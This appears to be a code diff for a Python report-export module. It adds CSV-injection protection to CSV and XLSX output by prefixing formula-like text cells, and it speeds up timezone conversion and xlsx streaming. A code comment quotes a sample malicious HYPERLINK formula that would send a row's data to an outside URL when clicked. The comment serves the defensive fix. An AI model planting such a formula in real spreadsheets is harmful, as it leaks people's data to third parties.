@@ -13,6 +13,7 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import re
 import threading
 from collections import Counter
 from collections.abc import Awaitable, Callable, Hashable, Sequence
@@ -104,6 +105,61 @@ def fmt_text(value: Any, fmt: str) -> str:
     if fmt == "time":
         return value.strftime("%Y-%m-%d %H:%M")
     return str(value)
+
+
+# --------------------------------------------------------------------------- spreadsheet safety
+# A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV
+# injection"): an owner's description `=HYPERLINK("http://…?"&J2&K2,"…")` would send the
+# row's data away when clicked.  Every text cell of every export and report passes here.
+FORMULA_START = frozenset("=+-@\t\r")
+# A signed number ("-4", "+12.5%") is data, not a formula: left as it is.
+_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)*%?")
+
+
+def _runs(value: str) -> bool:
+    return value[:1] in FORMULA_START and _NUMBER.fullmatch(value) is None
+
+
+def _printable(value: str) -> str:
+    """Text a file can hold: lone surrogates (which no encoder writes) replaced."""
+    if value.isascii():
+        return value
+    try:
+        value.encode("utf-8")
+    except UnicodeEncodeError:
+        value = value.encode("utf-8", "replace").decode("utf-8")
+    return value
+
+
+def csv_cell(value: Any) -> Any:
+    """A CSV cell that no spreadsheet runs: formula-like text gets a leading apostrophe."""
+    if isinstance(value, str):
+        value = _printable(value)
+        if _runs(value):
+            return "'" + value
+    return value
+
+
+def xlsx_cells(ws: Any, values: Sequence[Any]) -> list[Any]:
+    """A worksheet row that Excel cannot run: formula-like text is stored as a string cell
+    (with Excel's quote prefix), control characters XML cannot hold are dropped."""
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    out = list(values)
+    for i, value in enumerate(out):
+        if not isinstance(value, str):
+            continue
+        value = _printable(value)
+        if not value.isprintable():
+            value = ILLEGAL_CHARACTERS_RE.sub("", value)
+        if _runs(value):
+            cell = WriteOnlyCell(ws, value=value)
+            cell.data_type = "s"
+            cell.quotePrefix = True
+            value = cell
+        out[i] = value
+    return out
 
 
 # --------------------------------------------------------------------------- context
@@ -401,16 +457,20 @@ def to_csv(report: Report) -> str:
     and ends with an empty row (how spreadsheet users expect a multi-part export)."""
     buf = io.StringIO()
     w = csv.writer(buf, lineterminator="\n")
-    w.writerow([report.title])
+
+    def put(row: Sequence[Any]) -> None:
+        w.writerow([csv_cell(v) for v in row])
+
+    put([report.title])
     for k, v in report.meta:
-        w.writerow([k, v])
-    w.writerow([])
+        put([k, v])
+    put([])
     for t in report.tables:
-        w.writerow([t.title])
-        w.writerow([c.title for c in t.columns])
+        put([t.title])
+        put([c.title for c in t.columns])
         for row in t.rows:
-            w.writerow([fmt_text(v, c.fmt) for v, c in zip(row, t.columns)])
-        w.writerow([])
+            put([fmt_text(v, c.fmt) for v, c in zip(row, t.columns)])
+        put([])
     return buf.getvalue()
 
 
@@ -437,7 +497,9 @@ def to_xlsx(report: Report) -> bytes:
         ws.freeze_panes = "A2"
         header = []
         for c in t.columns:
-            cell = WriteOnlyCell(ws, value=c.title)
+            cell = WriteOnlyCell(ws, value=_printable(c.title))
+            if _runs(cell.value):
+                cell.data_type, cell.quotePrefix = "s", True
             cell.font = bold
             header.append(cell)
         ws.append(header)
@@ -445,19 +507,19 @@ def to_xlsx(report: Report) -> bytes:
             out: list[Any] = []
             for v, c in zip(row, t.columns):
                 value, fmt = _cell(v, c.fmt)
-                if fmt in _XLSX_FORMATS and value is not None:
+                if fmt in _XLSX_FORMATS and value is not None and not isinstance(value, str):
                     cell = WriteOnlyCell(ws, value=value)
                     cell.number_format = _XLSX_FORMATS[fmt]
                     out.append(cell)
                 else:
                     out.append(value)
-            ws.append(out)
+            ws.append(xlsx_cells(ws, out))
     info = wb.create_sheet("Definitions")
-    info.append([report.title])
+    info.append(xlsx_cells(info, [report.title]))
     for k, v in report.meta:
-        info.append([k, v])
+        info.append(xlsx_cells(info, [k, v]))
     for line in report.legend:
-        info.append([line])
+        info.append(xlsx_cells(info, [line]))
     buf = io.BytesIO()
     wb.save(buf)
     return buf.getvalue()
@@ -496,6 +558,23 @@ def _case_row(c: q.ExportCase, local: Callable[[datetime | None], datetime | Non
     ]
 
 
+def _wall_clock(zone: ZoneInfo) -> Callable[[datetime | None], datetime | None]:
+    """`ReportContext.local` for a million timestamps: the zone's offset is looked up once per
+    quarter hour of UTC (zones change offset on a quarter hour at most), not per timestamp."""
+    offsets: dict[int, timedelta] = {}
+
+    def local(t: datetime | None) -> datetime | None:
+        if t is None:
+            return None
+        quarter = int(t.timestamp()) // 900
+        offset = offsets.get(quarter)
+        if offset is None:
+            offset = offsets[quarter] = t.astimezone(zone).utcoffset() or timedelta(0)
+        return (t + offset).replace(tzinfo=None)
+
+    return local
+
+
 async def export_cases(app: App, start: date, end: date, fmt: str, community: str | None = None) -> bytes:
     """Cases opened in [start, end) with their timelines, for the archive (csv | xlsx).
 
@@ -505,7 +584,7 @@ async def export_cases(app: App, start: date, end: date, fmt: str, community: st
     async with app.uow() as uow:
         ctx = await open_context(uow.session, community, start, end, app.now())
         cases = await q.export_cases(uow.session, ctx.community.id, ctx.start, ctx.end)
-    local = ctx.local
+    local = _wall_clock(ctx.zone)
 
     def stamp(t: datetime | None) -> str:
         return t.strftime("%Y-%m-%d %H:%M") if t else ""
@@ -519,23 +598,22 @@ async def export_cases(app: App, start: date, end: date, fmt: str, community: st
             history = "\n".join(
                 f"{stamp(local(e.at))} {e.action} ({e.actor}){': ' + e.note if e.note else ''}" for e in c.timeline
             )
-            w.writerow(row + [history])
+            w.writerow([csv_cell(v) for v in row] + [csv_cell(history)])
         return buf.getvalue().encode("utf-8-sig")
     if fmt == "xlsx":
-        from openpyxl import Workbook
+        from bot.xlsx import StreamingWorkbook
 
-        wb = Workbook(write_only=True)  # streams rows: an archive of 100k cases stays in memory bounds
-        sheet = wb.create_sheet("Cases")
-        sheet.append(CASE_COLUMNS)
-        for c in cases:
-            sheet.append(_case_row(c, local))
-        events = wb.create_sheet("Timeline")
-        events.append(TIMELINE_COLUMNS)
-        for c in cases:
-            for e in c.timeline:
-                events.append([c.id, local(e.at), e.action, e.actor, e.note])
+        # Streamed straight to XML and deflated alongside (bot/xlsx.py): a month of 100k
+        # cases is five million cells; text cells are never formulas there.
         buf = io.BytesIO()
-        wb.save(buf)
+        book = StreamingWorkbook(buf)
+        sheet = book.sheet("Cases")
+        sheet.append_header(CASE_COLUMNS)
+        sheet.extend(_case_row(c, local) for c in cases)
+        events = book.sheet("Timeline")
+        events.append_header(TIMELINE_COLUMNS)
+        events.extend([c.id, local(e.at), e.action, e.actor, e.note] for c in cases for e in c.timeline)
+        book.close()
         return buf.getvalue()
     raise ValueError(f"unknown export format {fmt!r} (csv or xlsx)")
 
